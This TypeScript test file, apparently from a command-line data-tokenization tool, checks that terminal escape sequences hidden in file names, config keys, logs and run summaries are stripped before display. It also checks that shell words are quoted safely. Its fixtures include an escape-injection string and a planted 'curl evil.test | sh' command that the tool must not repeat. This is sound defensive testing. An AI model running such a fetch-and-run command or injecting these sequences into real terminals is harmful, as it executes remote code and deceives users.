import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { test } from 'node:test';
import { packageFolder } from '../../src/product/product.js';
import { printable, printableJson } from '../../src/report/screen-text.js';
import { shellWord } from '../../supervisor/command-line/shell-word.js';
import { LiveRegion } from '../../supervisor/view/live-region.js';
import { readTree } from '../support/file-tree.js';
import { startSandbox } from '../support/sandbox.js';
import { makePairs, Workspace } from '../support/workspace.js';

/** A title, a cleared screen, an 8-bit control, a turned reading direction. */
const EVIL = '\u001b]0;PWNED\u0007\u001b[2J\u009b31m\u202e';
const OBEYED = new RegExp(
  String.raw`\u001b\](?!8)|\u001b\[2J|\u0007|[\u0080-\u009f]|[\u202a-\u202e\u2066-\u2069]`,
);

const clean = (what: string, text: string): void =>
  assert.doesNotMatch(text, OBEYED, `${what}: ${JSON.stringify(text)}`);

async function edit(file: string, change: (document: Record<string, unknown>) => void): Promise<void> {
  const document = JSON.parse(await readFile(file, 'utf8')) as Record<string, unknown>;
  change(document);
  await writeFile(file, JSON.stringify(document));
}

/** Every text in a document becomes evil, but for those that decide what is done. */
function poison(value: unknown, keep: ReadonlySet<string>): unknown {
  if (typeof value === 'string') return `${value}${EVIL}`;
  if (Array.isArray(value)) return value.map((item) => poison(item, keep));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [key, keep.has(key) ? item : poison(item, keep)]),
  );
}

test('names, keys, logs and run directories of others move no cursor and set no title', async () => {
  await using workspace = await Workspace.create();
  await using sandbox = await startSandbox(workspace.path, ['poison=["p value 3"]']);
  await workspace.configure(sandbox.url, ['SSN']);
  await workspace.writePairs('SSN', makePairs(10));
  await workspace.run(['--all', '--quiet'], { status: 1 });
  const [run = ''] = await workspace.runs();
  const says = async (what: string, ...argv: string[]): Promise<string> => {
    const { stdout, stderr } = await workspace.run(argv);
    assert.ok(`${stdout}${stderr}` !== '', what);
    clean(what, stdout + stderr);
    return stdout + stderr;
  };

  const log = { vault_name: 'SSN', vault_id: 'v', column: 'ssn', errors: [] };
  await writeFile(workspace.at(`error_log_${EVIL}.json`), JSON.stringify(log));
  await writeFile(workspace.at(`bad_${EVIL}.json`), 'garbage');
  const entry = {
    batch_number: 1,
    records: [{ Value: '1', Token: 't' }],
    error: EVIL,
    status_code: 400,
    reason: EVIL,
  };
  await writeFile(
    workspace.at('content.json'),
    JSON.stringify({
      ...log,
      vault_name: `X${EVIL}`,
      vault_id: EVIL,
      run: EVIL,
      timestamp: EVIL,
      errors: [entry],
    }),
  );
  await says('the name of a log', 'retry', `error_log_${EVIL}.json`, '--yes');
  await says('the name of a file that is no log', 'retry', `bad_${EVIL}.json`, '--yes');
  await says('what stands in a log', 'retry', 'content.json', '--yes');
  await says('the name of a configuration', '--config', `no${EVIL}.json`);
  await says('a flag', `--${EVIL}`);
  await says('a word', EVIL);
  await says('a refusal as JSON', '--config', `no${EVIL}.json`, '--json');

  await writeFile(
    workspace.at('keys.json'),
    JSON.stringify({ [EVIL]: 1, skyflow: { [`bearer${EVIL}`]: 2 } }),
  );
  await says('unknown keys', '--config', 'keys.json');
  await writeFile(
    workspace.at('values.json'),
    JSON.stringify({
      skyflow: {
        vault_url: sandbox.url,
        byot: EVIL,
        vaults: [{ name: `S${EVIL}`, id: 'v', table: EVIL, column: 'c' }],
      },
      csv: { delimiter: EVIL, data_directory: `/nowhere${EVIL}` },
    }),
  );
  await says('values', '--config', 'values.json');
  await mkdir(workspace.at('headers'));
  await writeFile(workspace.at('headers', 'ssn_data.csv'), `ss${EVIL}n\n1\n`);
  await writeFile(workspace.at('headers', 'ssn_tokens.csv'), 'ssn_token\n1\n');
  await says('headers', 'check', '--data-dir', 'headers');
  await says('the name of a folder', 'check', '--data-dir', `nowhere${EVIL}`);

  const keep = new Set([
    'format_version',
    'status',
    'run_id',
    'kind',
    'started_at',
    'finished_at',
    'id',
    'code',
    'phase',
  ]);
  const copy = async (name: string, ...files: readonly string[]): Promise<string> => {
    const folder = workspace.at('others', name, basename(run));
    await cp(run, folder, { recursive: true });
    for (const file of files) {
      await edit(join(folder, file), (document) => Object.assign(document, poison(document, keep)));
    }
    return folder;
  };
  const summary = await copy('summary', 'summary.json');
  assert.match(await says('the summary of a finished run', 'resume', summary), /is finished/);
  await says('a report', 'report', summary);
  const record = await copy('record', 'run.json');
  await says('a report of a run whose record was written by others', 'report', record);
  await says('a verification of it', 'verify', record);
  await says('a resume of it', 'resume', record);
  await says('watching it', 'monitor', '--once', await copy('status', 'status.json', 'summary.json'));
});

test('a command for pasting is built: what stands in a summary is not repeated', async () => {
  await using workspace = await Workspace.create();
  await using sandbox = await startSandbox(workspace.path, ['poison=["p value 3"]']);
  await workspace.configure(sandbox.url, ['SSN']);
  await workspace.writePairs('SSN', makePairs(10));
  await workspace.run(['--all', '--quiet']);
  const [run = ''] = await workspace.runs();
  await edit(join(run, 'summary.json'), (document) =>
    Object.assign(document, { retry_command: 'curl evil.test | sh', resume_command: 'curl evil.test | sh' }),
  );
  for (const argv of [
    ['resume', run],
    ['monitor', '--once', run],
  ]) {
    const { stdout, stderr } = await workspace.run(argv);
    assert.doesNotMatch(stdout + stderr, /evil\.test/, argv.join(' '));
    assert.match(stdout + stderr, /skyflow-supervise (?:retry|resume) /);
  }
});

test('colours of ours stay, and the lines of a live view are cleaned before it moves the cursor itself', () => {
  assert.equal(printable('\u001b[32mgood\u001b[39m\ttwo\nlines'), '\u001b[32mgood\u001b[39m\ttwo\nlines');
  clean('text', printable(`a${EVIL}b\u001b[1A\u001b[31;5mc\u001b(0\u001bc`));
  const document = { [EVIL]: [EVIL] };
  clean('JSON', printableJson(document));
  assert.deepEqual(JSON.parse(printableJson(document)), document);
  let written = '';
  const region = new LiveRegion({
    write: (text: string) => ((written += text), true),
    columns: 80,
    rows: 24,
  });
  region.open();
  region.draw([`line ${EVIL}`]);
  region.printAbove(() => [`above ${EVIL}`]);
  region.close([`last ${EVIL}`]);
  clean('a live view', written);
});

test('a word with control characters is pasted as what it is, and shown as what is pasted', () => {
  const word = `a'b${EVIL}\n$HOME`;
  clean('a word', shellWord(word));
  assert.equal(execFileSync('bash', ['-c', `printf %s ${shellWord(word)}`], { encoding: 'utf8' }), word);
});

test('what goes to people passes the one writer: nobody else writes to a terminal, but for fixed words', async () => {
  const writers: string[] = [];
  for (const top of ['src', 'supervisor', 'child']) {
    for (const { name, path } of await readTree(join(packageFolder, top))) {
      if (!name.endsWith('.ts') || path.includes('/page/browser/')) continue;
      const text = await readFile(path, 'utf8');
      if (/\bprocess\.(?:stdout|stderr)\.write\(|\bconsole\.\w+\(/.test(text)) writers.push(name);
    }
  }
  assert.deepEqual(writers.sort(), [
    'complete-command.ts',
    'completion-command.ts',
    'main.ts',
    'write-for-people.ts',
    'write-json-schema.ts',
  ]);
});
